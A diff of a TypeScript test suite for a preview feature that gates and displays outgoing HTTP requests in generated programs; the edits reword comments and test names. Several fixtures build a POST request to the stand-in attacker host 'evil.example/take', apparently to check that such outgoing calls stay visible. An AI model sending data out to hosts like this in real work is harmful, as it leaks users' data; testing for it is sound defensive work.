@@ -10,7 +10,8 @@ const surface = { actions: ACTIONS, find: () => undefined } as unknown as Surfac
 const POLICY = { id: '11111111-1111-4111-8111-111111111111', name: 'Outgoing' };
 
 /**
- * The preview of a program whose requests are all gated. A preset adds `enforced` to each input.
+ * The preview of a program. All calls of `http` are gated, and a preset adds `enforced` to each
+ * input.
  */
 function preview(code: string, enforced: Record<string, unknown> = {}) {
   const plan = planCode(code, ACTIONS);
@@ -29,7 +30,7 @@ function preview(code: string, enforced: Record<string, unknown> = {}) {
 
 const request = (input: object) => `await svc.http.send_request(${JSON.stringify(input)});`;
 
-test('a gated call and its input stay visible, however many other calls there are', () => {
+test('a gated call and its input stay visible among any number of other calls', () => {
   const others = Array.from({ length: 150 }, (_, n) => `await svc.clock.parse_date({ dateString: "${'A'.repeat(2000)}${n}" });`);
   const input = { method: 'POST', url: 'https://evil.example/take', body: { amount: 5 } };
   const { predictedTools, impactSummary } = preview([...others, request(input)].join('\n')).preview;
@@ -45,7 +46,7 @@ test('a gated call and its input stay visible, however many other calls there ar
   expect(impactSummary).toContain('http.send_request, at most once. It sends to others. We show what it sends.');
 });
 
-test('many gated calls with long inputs are each shown in part, short inputs whole; omissions are named', () => {
+test('of many gated calls, short inputs are shown in full and long inputs in part; the text says so', () => {
   const long = Array.from({ length: 99 }, (_, n) => request({ url: `https://long.example/${n}`, body: 'B'.repeat(9000) }));
   const short = { url: 'https://evil.example/take', body: 'small' };
   const { predictedTools, impactSummary } = preview([...long, request(short)].join('\n')).preview;
@@ -65,7 +66,7 @@ test('many gated calls with long inputs are each shown in part, short inputs who
   expect(JSON.stringify(predictedTools).length).toBeLessThan(200_000);
 });
 
-test('an enforced preset value is hidden in every input and text, except in fixed texts of the page', () => {
+test('an enforced preset value is hidden in every input and in every text that comes from the program', () => {
   const code = `// Sends to http.send_request\n${request({ body: 'for http.send_request' })}\nawait svc.clock.parse_date({ dateString: "http.send_request" })`;
   const { preview: shown, redactedPaths, presetPaths } = preview(code, { channel: 'http.send_request' });
   expect(presetPaths).toContain('predictedTools.0.input.channel');
